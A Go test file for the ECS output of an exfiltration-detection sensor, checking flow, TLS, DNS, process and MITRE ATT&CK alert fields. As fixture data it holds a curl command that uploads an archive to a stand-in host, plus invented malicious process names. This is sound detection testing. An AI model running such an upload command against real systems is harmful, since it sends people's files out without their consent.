package encode

import (
	"bytes"
	"encoding/json"
	"net/netip"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/outflow-sensor/outflow/enrich/process"
)

// decodeECS parses one ECS line, numbers kept as written.
func decodeECS(t *testing.T, line []byte) map[string]any {
	t.Helper()
	d := json.NewDecoder(bytes.NewReader(line))
	d.UseNumber()
	var m map[string]any
	if err := d.Decode(&m); err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	return m
}

// at walks a dotted path through nested objects; nil when absent.
func at(t *testing.T, m map[string]any, path string) any {
	t.Helper()
	var v any = m
	for _, k := range strings.Split(path, ".") {
		o, ok := v.(map[string]any)
		if !ok {
			return nil
		}
		v = o[k]
	}
	return v
}

// noDottedKeys fails on a dotted key: ECS lines nest their objects, as
// Elastic's shippers write them. Evidence keys are the analytics' own.
func noDottedKeys(t *testing.T, v any, path string) {
	t.Helper()
	switch x := v.(type) {
	case map[string]any:
		for k, e := range x {
			if strings.Contains(k, ".") && path != "outflow.evidence.measured" {
				t.Errorf("dotted key %q under %q", k, path)
			}
			noDottedKeys(t, e, strings.TrimPrefix(path+"."+k, "."))
		}
	case []any:
		for _, e := range x {
			noDottedKeys(t, e, path)
		}
	}
}

// TestECSFlow: the ECS fields hold what the record says, in ECS's types
// (ports and counts as numbers, VLAN ids and the IANA number as
// strings); what ECS has no field for is under outflow.
func TestECSFlow(t *testing.T) {
	f := rich()
	m := decodeECS(t, ECS.AppendFlow(nil, f))
	noDottedKeys(t, m, "")
	str := func(s string) any { return s }
	num := func(s string) any { return json.Number(s) }
	for path, want := range map[string]any{
		"@timestamp":  str("2026-11-22T11:33:19.123456789Z"),
		"ecs.version": str(ECSVersion),
		"event.kind":  str("event"), "event.dataset": str("outflow.flow"),
		"event.start": str("2026-11-22T11:33:19.123456789Z"), "event.end": str("2026-11-22T11:33:21.623456790Z"),
		"event.duration": num("2500000001"),
		"source.ip":      str("10.77.0.2"), "source.port": num("41728"), "source.bytes": num("3264000"), "source.packets": num("2209"),
		"destination.ip": str("198.51.100.10"), "destination.port": num("443"), "destination.bytes": num("19415"),
		"destination.domain": str("upload.example.test"),
		"network.transport":  str("tcp"), "network.iana_number": str("6"), "network.type": str("ipv4"),
		"network.direction": str("outbound"), "network.bytes": num("3283415"), "network.packets": num("2689"),
		"network.protocol": str("tls"), "network.vlan.id": str("100"), "network.inner.vlan.id": str("200"),
		"network.community_id": str(f.CommunityID.String()),
		"tls.version":          str("1.3"), "tls.version_protocol": str("tls"), "tls.cipher": str("TLS_AES_128_GCM_SHA256"),
		"tls.established":        true,
		"tls.client.server_name": str("upload.example.test"), "tls.client.ja3": str("e7d705a3286e19ea42f587b344ee6865"),
		"tls.server.ja3s":     str("f4febc55ea12b31ae17cfb7e614afda8"),
		"http.request.method": str("PUT"), "http.request.body.bytes": num("3145728"), "url.domain": str("upload.example.test"),
		"dns.question.name": str("upload.example.test"), "dns.question.type": str("AAAA"), "dns.response_code": str("NXDOMAIN"),
		"dns.type":    str("answer"),
		"process.pid": num("4242"), "process.executable": str("/usr/bin/curl"), "process.name": str("curl"),
		"process.entity_id": str("{0000-guid}"), "process.start": str("2026-11-22T11:33:18.000000000Z"),
		"process.command_line": str("curl -T docs.tar https://upload.example.test/"), "process.user.name": str("alice"),
		"process.parent.pid": num("4200"), "process.parent.executable": str("/usr/bin/bash"), "process.parent.name": str("bash"),
		"process.parent.command_line": str("bash"),
		"host.name":                   str("lab-client"),
		"outflow.history":             str("ShADadfF"), "outflow.conn_state": str("SF"), "outflow.orig_bytes": num("3145912"),
		"outflow.tls.ja4":        str("t13d1516h2_8daaf6152771_b0da82dd1658"),
		"outflow.entropy.orig.n": num("4096"), "outflow.payload_class.orig": str(f.Inspection.Entropy[0].Class.String()),
		"outflow.process.end": str("orig"), "outflow.process.feed": str("auditd"),
		"outflow.resp_process.image": str(`C:\Program Files\Srv\Srv.EXE`), "outflow.resp_process.name": str("Srv.EXE"),
		"outflow.observed_payload": true,
	} {
		if got := at(t, m, path); !reflect.DeepEqual(got, want) {
			t.Errorf("%s = %#v, want %#v", path, got, want)
		}
	}
	for path, want := range map[string][]any{
		"event.category":       {"network"},
		"event.type":           {"connection", "end"},
		"related.ip":           {"10.77.0.2", "198.51.100.10"},
		"related.hosts":        {"upload.example.test"},
		"host.ip":              {"10.77.0.2"},
		"dns.answers":          {map[string]any{"data": "2001:db8::1"}},
		"outflow.tls.alpn":     {"h2", "http/1.1"},
		"outflow.entropy.resp": nil,
	} {
		got, _ := at(t, m, path).([]any)
		if want == nil {
			if at(t, m, path) != nil {
				t.Errorf("%s present: %v", path, at(t, m, path))
			}
			continue
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s = %#v, want %#v", path, got, want)
		}
	}

	// A router export: IP counters, the exporter as observer, no payload
	// keys at all (ECS leaves out the unknown).
	m = decodeECS(t, ECS.AppendFlow(nil, exported()))
	for path, want := range map[string]any{"outflow.observed_payload": false, "outflow.export.version": json.Number("10"),
		"outflow.export.stitch": "biflow", "outflow.export.sampling_rate": json.Number("100"), "source.bytes": json.Number("3264000")} {
		if got := at(t, m, path); got != want {
			t.Errorf("export: %s = %#v, want %#v", path, got, want)
		}
	}
	if ip, _ := at(t, m, "observer.ip").([]any); len(ip) != 1 || ip[0] != "192.0.2.1" {
		t.Errorf("export: observer.ip %v", at(t, m, "observer.ip"))
	}
	for _, path := range []string{"outflow.orig_bytes", "outflow.history", "outflow.conn_state", "tls", "process", "host"} {
		if v := at(t, m, path); v != nil {
			t.Errorf("export: %s = %v, want absent", path, v)
		}
	}
}

// TestECSICMP: ICMP has no ports in ECS's sense; the type and code Zeek
// keeps in its ports are under outflow.
func TestECSICMP(t *testing.T) {
	f := sample()
	f.Proto = 58
	f.Orig, f.Resp = netip.MustParseAddrPort("[2001:db8::1]:128"), netip.MustParseAddrPort("[2001:db8::2]:129")
	m := decodeECS(t, ECS.AppendFlow(nil, f))
	for path, want := range map[string]any{"source.port": nil, "destination.port": nil, "network.transport": "ipv6-icmp",
		"network.iana_number": "58", "network.type": "ipv6", "outflow.icmp.orig_p": json.Number("128"), "outflow.icmp.resp_p": json.Number("129")} {
		if got := at(t, m, path); got != want {
			t.Errorf("%s = %#v, want %#v", path, got, want)
		}
	}
}

// TestECSAlert: the alert's id, severity, analytic and technique in ECS's
// alert fields; its evidence kept whole under outflow.evidence.
func TestECSAlert(t *testing.T) {
	a := alert()
	m := decodeECS(t, ECS.AppendAlert(nil, a))
	noDottedKeys(t, m, "")
	for path, want := range map[string]any{
		"@timestamp": "2026-11-22T11:40:00.000000005Z", "event.kind": "alert", "event.id": a.ID,
		"event.severity": json.Number("3"), "event.risk_score": json.Number("73"), "event.reason": a.Title, "message": a.Title,
		"rule.id": "AN1512", "rule.ruleset": "outflow", "threat.framework": "MITRE ATT&CK",
		"host.name": "lab-client", "source.ip": "10.77.0.2", "destination.ip": "198.51.100.10", "destination.port": json.Number("443"),
		"destination.domain": "upload.example.test", "network.community_id": a.Evidence.CommunityIDs[0],
		"process.pid": json.Number("4242"), "process.name": "curl", "process.parent.executable": "/usr/bin/bash",
		"process.user.name": "alice", "outflow.severity": "high", "outflow.confidence": "high", "outflow.dedup_key": a.DedupKey,
		"outflow.host.peer_group": "lab-clients", "outflow.destination.service": "file-sharing",
	} {
		if got := at(t, m, path); got != want {
			t.Errorf("%s = %#v, want %#v", path, got, want)
		}
	}
	for path, want := range map[string][]any{
		"threat.technique.id": {"T1567"}, "threat.technique.name": {"Exfiltration Over Web Service"},
		"threat.technique.reference":       {"https://attack.mitre.org/techniques/T1567/"},
		"threat.technique.subtechnique.id": {"T1567.002"}, "threat.technique.subtechnique.name": {"Exfiltration to Cloud Storage"},
		"threat.technique.subtechnique.reference": {"https://attack.mitre.org/techniques/T1567/002/"},
		"threat.tactic.id":                        {"TA0010"}, "threat.tactic.name": {"Exfiltration"},
		"event.category": {"intrusion_detection", "network"}, "event.type": {"info"},
		"outflow.missing": {"payload"}, "related.user": {"alice"},
	} {
		if got, _ := at(t, m, path).([]any); !reflect.DeepEqual(got, want) {
			t.Errorf("%s = %#v, want %#v", path, at(t, m, path), want)
		}
	}
	// The evidence reads back as encoding/json writes the alert's own.
	var own struct{ Evidence map[string]any }
	d := json.NewDecoder(bytes.NewReader(a.AppendJSON(nil)))
	d.UseNumber()
	if err := d.Decode(&own); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"measured", "thresholds", "community_ids", "events"} {
		if got := at(t, m, "outflow.evidence."+k); !reflect.DeepEqual(got, own.Evidence[k]) {
			t.Errorf("evidence %s = %#v, the alert's JSON has %#v", k, got, own.Evidence[k])
		}
	}

	// An unknown technique is written by id alone; a zero time stays
	// RFC 3339.
	a.Technique, a.TS = "T9999", time.Time{}
	m = decodeECS(t, ECS.AppendAlert(nil, a))
	if got, _ := at(t, m, "threat.technique.id").([]any); len(got) != 1 || got[0] != "T9999" || at(t, m, "threat.technique.name") != nil {
		t.Errorf("unknown technique: %v", at(t, m, "threat"))
	}
	if ts, _ := at(t, m, "@timestamp").(string); ts != "0001-01-01T00:00:00Z" {
		t.Errorf("zero time: %v", ts)
	}
}

func TestHostOnly(t *testing.T) {
	for in, want := range map[string]string{"example.com": "example.com", "example.com:8080": "example.com",
		"[2001:db8::1]:80": "2001:db8::1", "2001:db8::1": "2001:db8::1", "": "", "[bad": "[bad"} {
		if got := hostOnly(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func TestECSAllocs(t *testing.T) {
	f := rich()
	buf := make([]byte, 0, 8192)
	if n := testing.AllocsPerRun(100, func() { buf = ECS.AppendFlow(buf[:0], f) }); n != 0 {
		t.Errorf("%v allocations per record", n)
	}
}

func BenchmarkFlowECS(b *testing.B) {
	f := sample()
	buf := make([]byte, 0, 4096)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		buf = ECS.AppendFlow(buf[:0], f)
	}
	b.SetBytes(int64(len(buf)))
}

func BenchmarkFlowECSRich(b *testing.B) {
	f := rich()
	buf := make([]byte, 0, 8192)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		buf = ECS.AppendFlow(buf[:0], f)
	}
	b.SetBytes(int64(len(buf)))
}

func BenchmarkFlowJSONRich(b *testing.B) {
	f := rich()
	buf := make([]byte, 0, 8192)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		buf = AppendFlow(buf[:0], f)
	}
	b.SetBytes(int64(len(buf)))
}

// TestECSAncestors: a process's ancestors, which ECS has no field for
// above process.parent, are under outflow.process.ancestors (and
// outflow.resp_process.ancestors), nearest first, in the record's own
// names, with the parent still in process.parent.
func TestECSAncestors(t *testing.T) {
	f := rich()
	orig := *f.OrigProc
	orig.Ancestors = []process.Ancestor{{PID: 4200, Image: "/usr/bin/bash", Command: "bash"},
		{PID: -1, GUID: "{g}", Image: `C:\Windows\explorer.exe`, Command: `explorer "x"`, User: "alice"}}
	f.OrigProc = &orig
	resp := *f.RespProc
	resp.Ancestors = []process.Ancestor{{PID: 4, Image: "System"}}
	f.RespProc = &resp
	m := decodeECS(t, ECS.AppendFlow(nil, f))
	want := []any{
		map[string]any{"pid": json.Number("4200"), "image": "/usr/bin/bash", "name": "bash", "command_line": "bash"},
		map[string]any{"guid": "{g}", "image": `C:\Windows\explorer.exe`, "name": "explorer.exe", "command_line": `explorer "x"`, "user": "alice"},
	}
	if got := at(t, m, "outflow.process.ancestors"); !reflect.DeepEqual(got, want) {
		t.Errorf("outflow.process.ancestors = %#v, want %#v", got, want)
	}
	if got := at(t, m, "outflow.resp_process.ancestors"); !reflect.DeepEqual(got, []any{map[string]any{"pid": json.Number("4"), "image": "System", "name": "System"}}) {
		t.Errorf("outflow.resp_process.ancestors = %#v", got)
	}
	if got := at(t, m, "process.parent.executable"); got != "/usr/bin/bash" {
		t.Errorf("process.parent.executable = %#v", got)
	}
	// None: no key.
	if m := decodeECS(t, ECS.AppendFlow(nil, rich())); at(t, m, "outflow.process.ancestors") != nil {
		t.Errorf("ancestors written for a process without any")
	}
}

// TestECSConflict: a contested attribution (issue 16's row 4: another
// process's connect event claimed the same flow end) says so in ECS as
// the JSON record does: confidence "contested" and the other claimants.
func TestECSConflict(t *testing.T) {
	f := rich()
	orig := *f.OrigProc
	orig.Conflict = []process.ProcessRef{{Host: "ws01", PID: 666, Image: "/tmp/forged", Feed: "sysmon"},
		{Host: "ws01", PID: -1, GUID: "{x}", Image: `C:\evil.exe`, Feed: "sysmon"}}
	f.OrigProc = &orig
	m := decodeECS(t, ECS.AppendFlow(nil, f))
	var rec map[string]any
	dec := json.NewDecoder(strings.NewReader("{" + strings.TrimPrefix(string(process.AppendJSON(nil, "p", &orig)), ",") + "}"))
	dec.UseNumber()
	if err := dec.Decode(&rec); err != nil {
		t.Fatal(err)
	}
	p := rec["p"].(map[string]any)
	if got := at(t, m, "outflow.process.confidence"); got != "contested" || p["confidence"] != "contested" {
		t.Errorf("confidence: ECS %#v, JSON %#v", got, p["confidence"])
	}
	got := at(t, m, "outflow.process.conflict").([]any)
	want := p["conflict"].([]any)
	if len(got) != 2 || len(want) != 2 {
		t.Fatalf("conflict: ECS %#v, JSON %#v", got, want)
	}
	for i := range got {
		g, w := got[i].(map[string]any), want[i].(map[string]any)
		for _, k := range []string{"host", "guid", "image", "name", "feed"} {
			if w[k] != nil && g[k] != w[k] {
				t.Errorf("conflict[%d].%s: ECS %#v, JSON %#v", i, k, g[k], w[k])
			}
		}
		if (w["pid"] == nil) != (g["pid"] == nil) || w["pid"] != nil && g["pid"] != w["pid"] {
			t.Errorf("conflict[%d].pid: ECS %#v, JSON %#v", i, g["pid"], w["pid"])
		}
	}
	if m := decodeECS(t, ECS.AppendFlow(nil, rich())); at(t, m, "outflow.process.conflict") != nil || at(t, m, "outflow.process.confidence") != nil {
		t.Errorf("a conflict written for an uncontested process")
	}
}
